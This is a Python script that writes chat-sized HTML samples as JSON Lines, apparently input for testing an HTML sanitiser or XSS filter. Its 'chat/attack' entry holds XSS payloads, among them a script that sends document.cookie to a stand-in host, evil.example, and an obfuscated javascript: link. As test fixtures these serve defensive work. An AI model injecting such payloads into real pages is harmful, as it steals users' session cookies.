"""html_rows.py SHARED: writes chat-sized rows of HTML (JSON Lines) from 100 bytes to 4 KiB: benign documents, and messages as people write."""
import json
import pathlib
import sys

MESSAGES = {
    "chat/short": "Hi <b>Ana</b>, see <a href=\"https://example.com/a?b=1&amp;c=2\">the page</a> &amp; tell me what you think :) It's <i>\"nice\"</i>.",
    "chat/lists": "<p>Before we meet:</p><ul><li>read <code>README.md</code></li><li>ask <em>Tom</em></li><li>bring <strong>two</strong> laptops</li></ul>"
                  "<p>Then<br>we start at 10 &ndash; don't be late.</p>",
    "chat/code": "<p>It fails here:</p><pre><code>if (a &lt; b &amp;&amp; c &gt; d) {\n    throw new Error(\"x\");\n}\n</code></pre><p>Any idea why?</p>",
    "chat/pasted": "<div class=\"ql\"><p style=\"margin:0\"><span data-x=\"1\" style=\"color:red\">Copied</span> from <a class=l href=\"http://a.example/p\" "
                   "onclick=\"t()\">there</a></p><!--StartFragment--><p>and &quot;more&quot; of <u>it</u></p></div>",
    "chat/plain": "Just words, as most messages are. Nothing to see here & nothing to do, only that 1 < 2 and that it is already late. " * 2,
    "chat/attack": "<img src=x onerror=alert(1)><script>fetch('//evil.example/'+document.cookie)</script><a href=\"java&#10;script:alert(1)\">win</a>" * 2,
}

shared = pathlib.Path(sys.argv[1])
for name, text in MESSAGES.items():
    print(json.dumps({"id": name, "input": text}))
print(json.dumps({"id": "chat/long", "input": "".join(MESSAGES.values()) * 2}))
path = shared / "corpora/xss/benign_html.jsonl"
if path.exists():
    rows = [json.loads(line) for line in open(path)]
    wanted = [row for row in rows if 100 <= len(row["input"].encode()) <= 4096]
    for row in wanted[:40]:
        print(json.dumps({"id": row["id"], "input": row["input"]}))
    print(json.dumps({"id": "documents/4k", "input": "".join(row["input"] for row in rows)[:4096]}))
